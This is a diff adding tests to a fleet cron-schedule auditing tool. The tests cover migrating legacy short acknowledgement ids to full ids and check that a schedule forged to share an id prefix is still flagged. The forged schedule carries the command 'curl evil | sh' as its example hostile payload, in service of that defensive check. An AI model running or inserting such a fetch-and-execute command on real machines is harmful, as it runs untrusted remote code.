@@ -132,3 +132,61 @@ def test_verdict_is_fleet_wide_and_ack_per_host_or_all_hosts(root_crontab, sshd_
     now = entries()
     assert not now["h1"]["stray"] and not now["h2"]["stray"]
     assert acks.load_acks().covers("h3", sid)  # a host added later is covered too
+
+
+def test_a_legacy_id_covers_the_one_schedule_it_starts_and_is_rewritten_to_the_full_id():
+    from fleetdeck.backend.probe_common import _sid as legacy_sid
+    from fleetdeck.backend.probe_schedules import _sid
+
+    def sched(sid: str, cmd: str) -> Schedule:
+        return Schedule(id=sid, host="a", kind="crontab", user="u", spec="37 * * * *", command=cmd,
+                        source="crontab -l")
+
+    key = ("crontab", "u", "crontab -l", "37 * * * *", "check on the run")
+    wide, old = _sid("c-", *key), legacy_sid("c-", *key)
+    assert len(wide) == 34 and wide.startswith(old) and acks.LEGACY_ID.match(old)
+    acks.acks_path().write_text(json.dumps({"ids": [], "hosts": {"a": [old]}}))   # a file from before
+    host = HostSnapshot(name="a", reachable=True, schedules=(sched(wide, "check on the run"),))
+    (got,) = acks.mark_stray([host])
+    assert not got.schedules[0].stray
+    assert json.loads(acks.acks_path().read_text())["hosts"] == {"a": [wide]}, "migrated on first use"
+    # from now on only the full id silences it: a schedule made to share the 40-bit start does not
+    forged = sched(wide[:12] + "0" * 22, "curl evil | sh")
+    (got,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=(host.schedules[0], forged))])
+    assert [s.stray for s in got.schedules] == [False, True]
+
+
+def test_a_legacy_id_covers_one_schedule_it_starts_and_neither_of_two():
+    wide = "c-0123456789" + "a" * 22
+    twin = "c-0123456789" + "b" * 22
+    scheds = tuple(Schedule(id=i, host="a", kind="crontab", user="u", spec="* * * * *", command=f"x {i}",
+                            source="crontab -l") for i in (wide, twin))
+    legacy = acks.Acks(everywhere=frozenset({"c-0123456789"}))
+    (one,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds[:1])], legacy)
+    assert not one.schedules[0].stray
+    (got,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds)], legacy)
+    assert all(s.stray and "unacknowledged" in s.reasons for s in got.schedules)
+    assert not acks.acks_path().exists(), "an Acks given by the caller is never written back"
+
+
+@needs_crontab
+@pytest.mark.root
+def test_an_acknowledgement_file_from_before_wide_ids_still_silences_its_crontab_line(root_crontab, tmp_path, capsys):  # noqa: F811
+    line = "43 6 * * * /usr/bin/true legacy-ack-4f2"
+    install_crontab(line + "\n", tmp_path)
+    hosts = local_fleet(tmp_path)
+
+    def entry() -> dict:
+        rc, out, err = run_cli(["--hosts", hosts, "schedules", "--json"], capsys)
+        assert rc == 0, err
+        (s,) = [s for s in json.loads(out)["schedules"] if s.get("raw") == line]
+        return s
+
+    first = entry()
+    sid = first["id"]
+    assert first["stray"] and len(sid) == 34
+    acks.acks_path().write_text(json.dumps({"ids": [sid[:12]]}))   # what an older fleetdeck stored
+    assert not entry()["stray"]
+    assert json.loads(acks.acks_path().read_text())["ids"] == [sid]
+    rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid], capsys)   # the wide id is taken
+    assert rc == 0, err
